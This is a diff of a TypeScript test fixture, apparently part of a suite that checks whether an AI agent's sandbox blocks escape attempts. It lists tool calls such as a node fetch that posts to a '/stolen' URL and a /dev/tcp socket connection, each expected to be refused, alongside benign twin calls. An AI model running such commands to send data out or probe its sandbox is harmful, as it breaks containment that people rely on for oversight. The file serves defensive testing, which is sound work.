@@ -1,21 +1,7 @@
 /** Out of the sandbox: the network, files with secrets, what runs later, runs outside. */
 import { FILE, HIDDEN, RECORD, type Attempt } from './attempt.ts';
 
-/** `url`: of a server on this host that would hear of it. */
-export const inSandbox = (url: string): readonly Attempt[] => [
-  {
-    name: 'the network, by a program',
-    from: FILE,
-    calls: [
-      ['code_shell_execute', { command: `node -e "fetch('${url}/stolen').then(() => console.log('sent'), () => 0)"` }],
-      [
-        'code_shell_execute',
-        { command: `exec 3<>/dev/tcp/127.0.0.1/${new URL(url || 'http://x:1').port} && echo sent` },
-      ],
-    ],
-    refused: { without: 'sent' },
-    twin: { call: ['code_shell_execute', { command: 'cat src/app.js' }], gives: 'serve()' },
-  },
+const without: readonly Attempt[] = [
   {
     name: 'the network, by git',
     from: RECORD,
@@ -86,4 +72,22 @@ export const inSandbox = (url: string): readonly Attempt[] => [
     refused: 'MODEL_CALLS_WRONG',
     twin: { call: ['sentinel_step_list', { sentinelId: '$HANDLE' }], gives: 'steps.1' },
   },
+];
+
+/** `url`: of a server on this host that would hear of it. */
+export const inSandbox = (url: string): readonly Attempt[] => [
+  {
+    name: 'the network, by a program',
+    from: FILE,
+    calls: [
+      ['code_shell_execute', { command: `node -e "fetch('${url}/stolen').then(() => console.log('sent'), () => 0)"` }],
+      [
+        'code_shell_execute',
+        { command: `exec 3<>/dev/tcp/127.0.0.1/${new URL(url || 'http://x:1').port} && echo sent` },
+      ],
+    ],
+    refused: { without: 'sent' },
+    twin: { call: ['code_shell_execute', { command: 'cat src/app.js' }], gives: 'serve()' },
+  },
+  ...without,
 ];
